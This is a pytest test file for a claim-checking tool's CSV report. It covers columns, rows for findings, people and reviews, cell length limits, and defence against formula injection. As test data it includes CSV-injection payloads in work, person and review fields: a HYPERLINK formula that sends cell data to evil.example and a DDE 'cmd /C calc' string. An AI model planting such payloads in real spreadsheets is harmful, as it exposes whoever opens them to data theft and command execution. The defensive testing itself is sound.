"""The CSV report (`check --csv`, issue 17): one row per finding for a spreadsheet, every claim
present, untrusted text unable to become a formula, the same results giving the same bytes."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from claimwatch import claims as claims_mod
from claimwatch.cli import main
from claimwatch.evaluate import evaluate
from claimwatch.evidence import JsonlEvidence
from claimwatch.reports import renderers
from claimwatch.reports.csvreport import BOM, CELL_LIMIT, COLUMNS, render_csv, safe_cell
from claimwatch.results import Results
from claimwatch.reviews import load_reviews
from helpers import HIT, LAB, authorship, project, work, write, write_jsonl
from test_people_reports import LI_WEI, ZHANG_SAN, people_claim, works_claim
from test_people_reports import report as people_report
from test_reports import shipped_results

DOCS = Path(__file__).resolve().parent.parent / "docs/reports.md"

CLAIMS = """\
statement:
  speaker: Example Corp
  made_on: 2024-01-10
  quote: We do not work on face recognition, nor with military universities.
  sources: [{title: An interview}]
subjects:
  lab:
    name: Example Lab
    openalex: [I100]
claims:
  - id: no-face-with-partners
    says: Example Lab does no face recognition work with military universities.
    subject: lab
    from: 2024-01-10
    expects: none
    works: {topic: face, coauthor_in: [mil]}
  - id: no-face-later
    says: "=Example Lab will do no face recognition from 2030."
    subject: lab
    from: 2030-01-01
    expects: none
    works: {topic: face}
"""

RECORDS = [
    work("W1", "Face recognition at scale", doi="https://doi.org/10.1234/abc"),
    work("W2", "Face verification", date="2024"),  # may fall before the claim's start: uncertain
]


def case(root: Path, records: list[dict]) -> Results:
    path = write(root / "claims/c.yaml", CLAIMS)
    evidence = JsonlEvidence.open(write_jsonl(root / "works.jsonl", records))
    return evaluate(claims_mod.load_claims([path], root=root), [evidence])


def parse(text: str) -> list[dict[str, str]]:
    assert text.startswith(BOM)
    return list(csv.DictReader(io.StringIO(text[len(BOM) :], newline="")))


@pytest.fixture()
def results(tmp_path) -> Results:
    return case(project(tmp_path), RECORDS)


def test_the_header_is_the_documented_columns_and_rows_end_in_crlf(results):
    text = render_csv(results)
    header, _, rest = text[len(BOM) :].partition("\r\n")
    assert next(csv.reader([header])) == list(COLUMNS)
    assert text.endswith("\r\n") and rest.count("\r\n") == len(parse(text))
    assert renderers()["csv"] is render_csv


def test_a_matched_finding_is_a_row_with_its_work_reasons_and_records(results):
    rows = parse(render_csv(results))
    matched = [r for r in rows if r["status"] == "matched"]
    assert [r["work_id"] for r in matched] == ["W1"]
    (row,) = matched
    result = results.result("no-face-with-partners")
    (finding,) = result.findings
    assert {k: row[k] for k in ("claim", "verdict", "says", "subject", "period_from", "period_to")} == {
        "claim": "no-face-with-partners",
        "verdict": result.verdict,
        "says": result.says,
        "subject": "Example Lab",
        "period_from": "2024-01-10",
        "period_to": "",
    }
    assert (row["strength"], row["title"], row["publication_date"]) == (
        "direct",
        "Face recognition at scale",
        "2024-06-01",
    )
    assert (row["doi"], row["arxiv"], row["url"]) == (finding.work.doi or "", "", finding.work.url or "")
    assert row["doi"] == "10.1234/abc"
    assert row["records"].splitlines() == list(finding.work.records) and row["records"].endswith(":1")
    assert row["reasons"].splitlines() == [
        "A. Lab (1): openalex_id, subject, Example Lab (I100)",
        "B. Partner (2): openalex_id, mil/hit, Harbin Institute of Technology (I200)",
        '"face recognition" in title',
    ]
    assert row["doubts"] == ""


def test_an_uncertain_finding_is_a_row_with_its_doubts(results):
    (row,) = [r for r in parse(render_csv(results)) if r["status"] == "uncertain"]
    (finding,) = results.result("no-face-with-partners").uncertain_findings
    assert (row["claim"], row["work_id"], row["publication_date"]) == ("no-face-with-partners", "W2", "2024")
    assert row["doubts"].splitlines() == list(finding.uncertain_because)
    assert "may fall before 2024-01-10" in row["doubts"]


def test_a_claim_with_no_finding_still_has_its_verdict_in_one_row(results):
    rows = [r for r in parse(render_csv(results)) if r["claim"] == "no-face-later"]
    assert len(rows) == 1
    (row,) = rows
    assert row["status"] == "none" and row["verdict"] == results.result("no-face-later").verdict
    assert all(row[c] == "" for c in COLUMNS[COLUMNS.index("strength") :])
    assert row["says"] == "'=Example Lab will do no face recognition from 2030."  # the claim's text is guarded too


def test_every_claim_and_finding_of_the_shipped_case_has_a_row():
    results = shipped_results()
    rows = parse(render_csv(results))
    expected = [
        (r.claim, f.work.id, f.status) for r in results.results for f in [*r.findings, *r.uncertain_findings]
    ] + [(r.claim, "", "none") for r in results.results if not (r.findings or r.uncertain_findings)]
    assert sorted((row["claim"], row["work_id"], row["status"]) for row in rows) == sorted(expected)
    assert {row["claim"] for row in rows} == {r.claim for r in results.results}
    verdicts = {r.claim: r.verdict for r in results.results}
    assert all(row["verdict"] == verdicts[row["claim"]] for row in rows)


def test_two_renders_give_the_same_bytes(tmp_path):
    first = render_csv(case(project(tmp_path / "a"), RECORDS))
    second = render_csv(case(project(tmp_path / "a"), RECORDS))
    assert first.encode("utf-8") == second.encode("utf-8")
    assert render_csv(shipped_results()) == render_csv(shipped_results())


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "\ufffd=1"),  # a lone carriage return is a control character, replaced first
        ("a=b", "a=b"),
        ("Face \x1b[31mred\x1b[0m", "Face \ufffd[31mred\ufffd[0m"),
        ("", ""),
    ],
)
def test_a_cell_never_starts_a_formula_and_carries_no_control_character(text, cell):
    assert safe_cell(text) == cell


HOSTILE = [
    work(
        "W9",
        '=HYPERLINK("https://evil.example/?"&A1, "Face recognition")',
        doi="10.1234/x",
        primary_location={"landing_page_url": "@SUM(1+1)*cmd|' /C calc'!A0"},
        authorships=[authorship("+Mallory\x1b[2J", [LAB]), authorship("-B. Partner", [HIT])],
    )
]


def test_hostile_evidence_reaches_the_csv_as_inert_text(tmp_path):
    rows = parse(render_csv(case(project(tmp_path), HOSTILE)))
    (row,) = [r for r in rows if r["work_id"] == "W9"]
    assert row["title"] == '\'=HYPERLINK("https://evil.example/?"&A1, "Face recognition")'
    assert row["url"].startswith("'@SUM")
    assert row["reasons"].startswith("'+Mallory\ufffd[2J (1): ")
    for r in rows:
        for column, value in r.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", value.replace("\r\n", "")), (column, value)


def test_check_csv_writes_the_report(tmp_path, monkeypatch, capsys):
    root = project(tmp_path)
    write(root / "claims/c.yaml", CLAIMS)
    write_jsonl(root / "works.jsonl", RECORDS)
    monkeypatch.chdir(root)
    assert main(["check", "claims/c.yaml", "--evidence", "works.jsonl", "--csv", "out/findings.csv"]) == 0
    assert "wrote out/findings.csv" in capsys.readouterr().out
    data = (root / "out/findings.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [(r["claim"], r["status"]) for r in rows] == [
        ("no-face-with-partners", "matched"),
        ("no-face-with-partners", "uncertain"),
        ("no-face-later", "none"),
    ]


def test_check_csv_onto_an_input_is_refused(tmp_path, monkeypatch, capsys):
    root = project(tmp_path)
    write(root / "claims/c.yaml", CLAIMS)
    write_jsonl(root / "works.jsonl", RECORDS)
    monkeypatch.chdir(root)
    before = (root / "claims/c.yaml").read_bytes()
    assert main(["check", "claims/c.yaml", "--evidence", "works.jsonl", "--csv", "claims/c.yaml"]) == 2
    err = capsys.readouterr().err.splitlines()
    assert err == [
        "claims/c.yaml: --csv would overwrite the claim file claims/c.yaml, an input of this run; choose another path"
    ]
    assert (root / "claims/c.yaml").read_bytes() == before


def test_every_column_is_documented():
    doc = DOCS.read_text(encoding="utf-8")
    for column in COLUMNS:
        assert f"| `{column}` |" in doc, f"docs/reports.md does not describe the CSV column {column}"


# --- claims about people (#21) --------------------------------------------------------------


def people_rows(results: Results) -> list[dict[str, str]]:
    return [r for r in parse(render_csv(results)) if r["claim"] == "lab-no-recruits"]


def test_the_people_columns_come_after_the_works_columns():
    assert COLUMNS.index("review_expires") == 22  # the works' columns keep their places
    assert COLUMNS[COLUMNS.index("review_expires") + 1 :] == (
        "person_id",
        "person_name",
        "orcid",
        "other_openalex_ids",
        "first_year_at_subject",
        "years_at_subject",
        "years_at_listed",
        "person_shows",
        "person_works",
        "review_distinct_from",  # after the people's, which keep their places
        "review_at",  # after that, the thirty-first part's
    )


def test_a_claim_about_people_gives_a_row_per_person_with_ids_years_and_works():
    matched, uncertain = people_rows(people_report(people_claim(), works_claim()))
    assert (matched["status"], matched["strength"], matched["work_id"], matched["title"]) == (
        "matched",
        "direct",
        "",
        "",
    )
    assert (matched["person_id"], matched["person_name"], matched["orcid"], matched["other_openalex_ids"]) == (
        "A5023888391",
        "Li Wei",
        "0000-0002-1825-0097",
        "A5000000001",
    )
    assert matched["first_year_at_subject"] == "2023"
    assert matched["years_at_subject"] == "Example Lab: 2023–2024 (publication years, not employment dates)"
    assert matched["years_at_listed"] == (
        "Harbin Institute of Technology (mil/hit): 2019–2021 (publication years, not employment dates)"
    )
    assert matched["person_shows"] == LI_WEI.shows
    assert matched["records"].splitlines() == ["evidence/people.jsonl:1", "evidence/people.jsonl:7"]
    assert matched["reasons"].splitlines() == [
        "openalex_id, subject, Example Lab (I100)",
        "openalex_id, mil/hit, Harbin Institute of Technology (I200), listed on or before the year that matters",
    ]
    assert matched["person_works"].splitlines() == [
        'Example Lab: W10, 2023-05-01, "A paper from the lab", doi 10.1234/lab, works.jsonl:10',
        'Harbin Institute of Technology (mil/hit): W1, 2019-03-01, "A paper from Harbin", works.jsonl:3',
        "Harbin Institute of Technology (mil/hit): and 2 more works in the evidence",
    ]
    assert matched["doubts"] == ""
    assert uncertain["status"] == "uncertain" and uncertain["person_id"] == "A2"
    assert uncertain["doubts"].splitlines() == list(ZHANG_SAN.uncertain_because)
    assert uncertain["reasons"].splitlines()[1] == (
        'name_in_institution, mil/beihang, Beijing University of Aeronautics and Astronautics, matched "Beijing '
        'University of Aeronautics and Astronautics"'
    )


def test_a_claim_about_people_with_no_one_still_has_its_verdict_in_one_row():
    (row,) = people_rows(people_report(people_claim(people=(), uncertain=())))
    assert row["status"] == "none" and row["verdict"] == "insufficient_evidence"
    assert all(row[c] == "" for c in COLUMNS[COLUMNS.index("strength") :])


def test_works_rows_leave_the_people_columns_empty():
    rows = [r for r in parse(render_csv(people_report(people_claim(), works_claim()))) if r["work_id"]]
    assert [r["work_id"] for r in rows] == ["W7"]
    assert all(rows[0][c] == "" for c in COLUMNS[COLUMNS.index("person_id") :])


def test_hostile_people_reach_the_csv_as_inert_text():
    hostile = LI_WEI.model_copy(
        update={
            "name": '=HYPERLINK("https://evil.example/?"&A1, "Li Wei")',
            "shows": "+cmd|' /C calc'!A0",
            "orcid": "@SUM(1+1)",
            "uncertain_because": ("-2+3 \x1b[2J",),
            "status": "uncertain",
        }
    )
    (row,) = people_rows(people_report(people_claim(people=(), uncertain=(hostile,))))
    assert row["person_name"] == '\'=HYPERLINK("https://evil.example/?"&A1, "Li Wei")'
    assert (row["person_shows"], row["orcid"], row["doubts"]) == (
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)",
        "'-2+3 \ufffd[2J",
    )


def test_a_line_break_in_a_one_item_cell_folds_to_a_space(tmp_path):
    """Each line of a cell is one item: a title holding a line break is still one title."""
    from test_reports_hostile import hostile_results

    rows = parse(render_csv(hostile_results(tmp_path, title="Face recognition\nW999 \u2028 a second\r\nline")))
    (row,) = [r for r in rows if r["work_id"] == "W1"]
    assert row["title"] == "Face recognition W999   a second line"
    assert all("\n" not in row[c] for c in COLUMNS if c not in ("records", "reasons", "doubts"))


def test_no_cell_is_longer_than_a_spreadsheet_cell_holds(tmp_path):
    """A work with thousands of authors: its reasons cell keeps the whole reasons that fit within
    Excel's 32,767 characters and counts the rest; a title or a claim's text longer than that is
    cut, saying so, counted as Excel counts (a character beyond U+FFFF is two)."""
    root = project(tmp_path)
    says = "\U0001f600" * 20000
    claims = CLAIMS.replace(
        "says: Example Lab does no face recognition work with military universities.", f"says: {says}"
    )
    write(root / "claims/c.yaml", claims)
    authors = [authorship(f"Partner {k}", [HIT]) for k in range(3000)]
    records = [work("W1", "Face recognition " + "x" * 40000, authorships=[authorship("A. Lab", [LAB]), *authors])]
    evidence = JsonlEvidence.open(write_jsonl(root / "works.jsonl", records))
    results = evaluate(claims_mod.load_claims([root / "claims/c.yaml"], root=root), [evidence])
    (finding,) = results.result("no-face-with-partners").findings
    (row,) = [r for r in parse(render_csv(results)) if r["work_id"] == "W1"]
    units = {column: len(value.encode("utf-16-le")) // 2 for column, value in row.items()}
    assert max(units.values()) <= CELL_LIMIT
    *kept, more = row["reasons"].split("\n")
    assert 400 < len(kept) < len(finding.reasons)
    assert more == (
        f"and {len(finding.reasons) - len(kept)} more (a spreadsheet cell holds 32,767 characters; "
        "the JSON report lists them all)"
    )
    assert kept[1] == "Partner 0 (2): openalex_id, mil/hit, Harbin Institute of Technology (I200)"
    cut = "… (cut: a spreadsheet cell holds 32,767 characters; the JSON report holds it whole)"
    assert row["title"] == ("Face recognition " + "x" * 40000)[: CELL_LIMIT - len(cut)] + cut
    assert row["says"].startswith("\U0001f600") and row["says"].endswith(cut)
    assert units["says"] in (CELL_LIMIT - 1, CELL_LIMIT)  # a pair of code units is never split


def reviewed_case(root: Path, decision: str) -> Results:
    """The case with W2, uncertain by its date alone, reviewed as `decision`."""
    reviews = write(
        root / "reviews.yaml",
        f"reviews:\n  - {{claim: no-face-with-partners, work: W2, decision: {decision}, by: Ann,"
        " date: 2025-01-02, note: read the paper}\n",
    )
    path = write(root / "claims/c.yaml", CLAIMS)
    evidence = JsonlEvidence.open(write_jsonl(root / "works.jsonl", RECORDS))
    return evaluate(claims_mod.load_claims([path], root=root), [evidence], reviews=load_reviews(reviews))


@pytest.mark.parametrize(
    ("decision", "status", "marked"),
    [("confirmed", "matched", "resolved on review: "), ("not_a_match", "dismissed", "uncertain before review: ")],
)
def test_a_reviewed_finding_s_former_doubts_are_said_to_be_settled(tmp_path, decision, status, marked):
    # A confirmed finding is matched, its doubts resolved: a `matched` row with the bare doubts
    # read as a match still in doubt, where the HTML and Markdown say "doubts resolved on review".
    results = reviewed_case(project(tmp_path), decision)
    (row,) = [r for r in parse(render_csv(results)) if r["work_id"] == "W2"]
    assert (row["status"], row["review_decision"]) == (status, decision)
    assert row["doubts"].splitlines() == [marked + "its date 2024 may fall before 2024-01-10"]
    html = renderers()["html"](results)
    assert {"confirmed": "doubts resolved on review", "not_a_match": "uncertain before review"}[decision] in html


def test_a_review_of_a_claim_not_checked_has_a_row_of_its_own(tmp_path):
    """Left by the thirtieth part: a review naming a claim the run does not check (a typo,
    "no-face-with-partnerz", or a claim since renamed) was in the JSON, Markdown and HTML reports,
    but the CSV gave no row for it, so a desk working from the spreadsheet never saw it. Each has
    a row after every claim's now, status `not_checked`, its text as inert as any other's."""
    root = project(tmp_path)
    reviews = write(
        root / "reviews.yaml",
        "reviews:\n"
        "  - {claim: no-face-with-partners, work: W2, decision: confirmed, by: Ann, date: 2025-01-02, note: read}\n"
        "  - {claim: no-face-with-partnerz, work: W1, decision: not_a_match, by: Ann, date: 2025-01-03,"
        " note: '=HYPERLINK(\"http://x\")'}\n"
        "  - {claim: lab-no-recruitz, person: A5023888391, decision: confirmed, by: Bo, date: 2025-01-04,"
        " note: seen, expires: 2026-01-01, distinct_from: [A5000000001]}\n",
    )
    path = write(root / "claims/c.yaml", CLAIMS)
    evidence = JsonlEvidence.open(write_jsonl(root / "works.jsonl", RECORDS))
    results = evaluate(claims_mod.load_claims([path], root=root), [evidence], reviews=load_reviews(reviews))
    assert [r.claim for r in results.reviews_of_other_claims] == ["no-face-with-partnerz", "lab-no-recruitz"]
    text = render_csv(results)
    rows = parse(text)
    assert [(r["claim"], r["status"]) for r in rows][-2:] == [
        ("no-face-with-partnerz", "not_checked"),
        ("lab-no-recruitz", "not_checked"),
    ]
    typo, person = rows[-2:]
    assert {c: v for c, v in typo.items() if v} == {
        "claim": "no-face-with-partnerz",
        "status": "not_checked",
        "work_id": "W1",
        "review_decision": "not_a_match",
        "review_by": "Ann",
        "review_date": "2025-01-03",
        "review_note": '\'=HYPERLINK("http://x")',  # never a formula
        "review_at": f"{reviews}:3",
    }
    assert {c: v for c, v in person.items() if v} == {
        "claim": "lab-no-recruitz",
        "status": "not_checked",
        "person_id": "A5023888391",
        "review_decision": "confirmed",
        "review_by": "Bo",
        "review_date": "2025-01-04",
        "review_note": "seen",
        "review_expires": "2026-01-01",
        "review_distinct_from": "A5000000001",
        "review_at": f"{reviews}:4",
    }
    # A review that applies says where it stands too; the claims' rows come first, as before.
    (w2,) = [r for r in rows if r["work_id"] == "W2"]
    assert (w2["claim"], w2["review_decision"], w2["review_at"]) == (
        "no-face-with-partners",
        "confirmed",
        f"{reviews}:2",
    )
    assert [r["claim"] for r in rows[:-2]] == [
        r["claim"] for r in parse(render_csv(results.model_copy(update={"reviews_of_other_claims": ()})))
    ]
    assert render_csv(results) == text  # the same bytes again


def test_a_run_whose_reviews_all_name_its_claims_gives_no_not_checked_row(results):
    assert results.reviews_of_other_claims == ()
    assert "not_checked" not in {r["status"] for r in parse(render_csv(results))}
